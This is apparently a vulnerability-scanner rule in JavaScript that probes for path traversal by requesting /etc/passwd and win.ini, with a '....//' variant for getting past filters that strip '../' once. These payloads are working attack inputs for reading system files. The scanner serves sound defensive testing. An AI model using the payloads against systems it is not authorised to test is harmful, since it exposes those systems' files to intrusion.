rule = {
    id: "path-traversal",
    name: "Path traversal",
    cwe: 22,
    risk: 3,
    confidence: 3,
    description: "A parameter names a file outside the folder that the application means to serve.",
    solution: "Resolve the path and check that it is still inside the folder, or map names to known files.",

    probe: function (target, value) {
        var up = "../../../../../../../../../..";
        return this.read(target, up + "/etc/passwd", /root:[^:\s]*:0:0:/)
            || this.read(target, "/etc/passwd", /root:[^:\s]*:0:0:/)
            // Survives a filter that takes every ../ away, once.
            || this.read(target, up.replace(/\.\.\/?/g, "....//") + "etc/passwd", /root:[^:\s]*:0:0:/)
            || this.read(target, up.replace(/\//g, "\\") + "\\windows\\win.ini", /; for 16-bit app support/);
    },

    read: function (target, payload, content) {
        var reply = target.send(payload);
        var seen = content.exec(reply.body);
        return seen !== null && !content.test(target.before)
            ? { attack: payload, evidence: seen[0], reply: reply }
            : null;
    }
};
